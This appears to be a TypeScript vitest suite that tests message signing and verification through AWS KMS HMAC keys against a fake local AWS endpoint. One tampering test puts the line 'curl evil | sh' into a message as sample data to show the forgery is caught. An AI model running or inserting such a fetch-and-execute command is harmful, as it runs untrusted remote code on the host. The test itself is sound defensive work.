// The KMS MAC adapter and message signing with the real SDK v3 KMS client against the loopback fake AWS,
// whose GenerateMac/VerifyMac compute real HMACs (test/support/fakeKms.ts).
import { KMSClient } from '@aws-sdk/client-kms';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { checkAuthenticity, signMachine, signPublication } from '../../lib/authenticity';
import { kmsMessageMac } from '../../lib/aws/messageMac';
import { machineCopyOf, signingDigest, withSignature } from '../../lib/domain/signedMessage';
import { snsPublication } from '../../lib/channels/publish';
import { resultMessage } from '../../lib/domain/topicMessage';
import { scenarioFixtures } from '../golden/fixtures';
import { startFakeAws, type FakeAws } from '../support/fakeAws';

let fake: FakeAws;
let kms: KMSClient;
let keyArn: string;
let otherKeyArn: string;

beforeAll(async () => {
  fake = await startFakeAws();
  kms = new KMSClient({ endpoint: fake.url, region: 'eu-west-1', maxAttempts: 2 });
  keyArn = fake.kms.addKey();
  otherKeyArn = fake.kms.addKey();
});
afterAll(() => fake.close());
beforeEach(() => fake.reset());

const drift = scenarioFixtures().find((f) => f.name === 'cloudtrail-mfa-delete-disabled')!.result;
const machine = { source: 'mfa-delete-guard', result: { bucket: 'example-bucket', script: 'aws s3api …' } };

describe('kmsMessageMac', () => {
  it('GenerateMac returns the HMAC-SHA-256 of the digest under the key', async () => {
    const digest = signingDigest(machine);
    const mac = await kmsMessageMac(kms, keyArn).generate(digest);
    expect(Buffer.from(mac)).toEqual(fake.kms.hmac(keyArn, digest));
    const call = fake.requests.find((r) => r.operation === 'GenerateMac')!;
    expect(call.headers['x-amz-target']).toBe('TrentService.GenerateMac');
    expect(JSON.parse(call.body)).toEqual({
      KeyId: keyArn,
      MacAlgorithm: 'HMAC_SHA_256',
      Message: Buffer.from(digest).toString('base64'),
    });
  });

  it('VerifyMac: true for the key’s MAC, false (KMSInvalidMacException) for another key’s', async () => {
    const digest = signingDigest(machine);
    const mine = await kmsMessageMac(kms, keyArn).generate(digest);
    const theirs = await kmsMessageMac(kms, otherKeyArn).generate(digest);
    await expect(kmsMessageMac(kms, keyArn).verify(digest, mine)).resolves.toBe(true);
    await expect(kmsMessageMac(kms, keyArn).verify(digest, theirs)).resolves.toBe(false);
  });

  it('a KMS fault is thrown, never taken for a bad MAC', async () => {
    fake.fail('VerifyMac', { status: 500, code: 'KMSInternalException', message: 'internal' });
    const digest = signingDigest(machine);
    await expect(kmsMessageMac(kms, keyArn).verify(digest, new Uint8Array(32))).rejects.toMatchObject({
      name: 'KMSInternalException',
    });
    // SDK retries happened: the fault was not swallowed on the first answer.
    expect(fake.stats().byOperation.VerifyMac).toBe(2);
  });

  it.each([
    ['AccessDeniedException', 400],
    ['NotFoundException', 400],
    ['DisabledException', 400],
    ['KMSInvalidStateException', 400],
    ['ThrottlingException', 400],
  ])('%s from VerifyMac is a fault, not "unverified"', async (code, status) => {
    fake.fail('VerifyMac', { status, code });
    const signed = await signMachine(kmsMessageMac(kms, keyArn), machine);
    await expect(checkAuthenticity(kmsMessageMac(kms, keyArn), signed)).rejects.toMatchObject({ name: code });
  });

  it('GenerateMac with a key that is not an HMAC key fails loudly', async () => {
    const aesKey = fake.kms.addKey({ spec: 'SYMMETRIC_DEFAULT' });
    await expect(kmsMessageMac(kms, aesKey).generate(signingDigest(machine))).rejects.toMatchObject({
      name: 'InvalidKeyUsageException',
    });
  });
});

describe('signing and checking a message', () => {
  it('a signed message survives JSON and is genuine', async () => {
    const mac = kmsMessageMac(kms, keyArn);
    const received = JSON.parse(JSON.stringify(await signMachine(mac, machine))) as Record<string, unknown>;
    await expect(checkAuthenticity(mac, received)).resolves.toEqual({ verdict: 'genuine' });
  });

  it('unsigned → unverified, without asking KMS', async () => {
    await expect(checkAuthenticity(kmsMessageMac(kms, keyArn), machine)).resolves.toEqual({
      verdict: 'unverified',
      reason: 'unsigned',
    });
    expect(fake.stats().byOperation.VerifyMac).toBeUndefined();
  });

  it('signed with another key → unverified (mac-mismatch)', async () => {
    const forged = await signMachine(kmsMessageMac(kms, otherKeyArn), machine);
    await expect(checkAuthenticity(kmsMessageMac(kms, keyArn), forged)).resolves.toEqual({
      verdict: 'unverified',
      reason: 'mac-mismatch',
    });
  });

  it('a genuine signature moved onto a changed message → unverified', async () => {
    const mac = kmsMessageMac(kms, keyArn);
    const signed = await signMachine(mac, machine);
    const tampered = { ...signed, result: { ...machine.result, script: 'curl evil | sh' } };
    await expect(checkAuthenticity(mac, tampered)).resolves.toMatchObject({ reason: 'mac-mismatch' });
  });

  it('a malformed signature → unverified, without asking KMS', async () => {
    const bad = { ...withSignature(machine, new Uint8Array(32)), signature: { version: 1, mac: 'x' } };
    await expect(checkAuthenticity(kmsMessageMac(kms, keyArn), bad)).resolves.toMatchObject({
      verdict: 'unverified',
      reason: 'malformed-signature',
    });
    expect(fake.stats().byOperation.VerifyMac).toBeUndefined();
  });

  it('signPublication signs the machine copy in every protocol that carries it', async () => {
    const alert = snsPublication(resultMessage(drift));
    const mac = kmsMessageMac(kms, keyArn);
    const signed = await signPublication(mac, alert);
    const outer = JSON.parse(signed.message) as Record<string, string>;
    const before = JSON.parse(alert.message) as Record<string, string>;
    const copy = machineCopyOf(signed.message);
    expect(copy.signature).toBeDefined();
    // Only the machine copy changes: every other protocol's rendering is as it was.
    for (const key of Object.keys(before))
      if (before[key] !== before.default) expect(outer[key], key).toBe(before[key]);
    expect(Object.keys(outer).sort()).toEqual(Object.keys(before).sort());
    await expect(
      checkAuthenticity(mac, JSON.parse(outer.default!) as Record<string, unknown>),
    ).resolves.toEqual({ verdict: 'genuine' });
  });
});
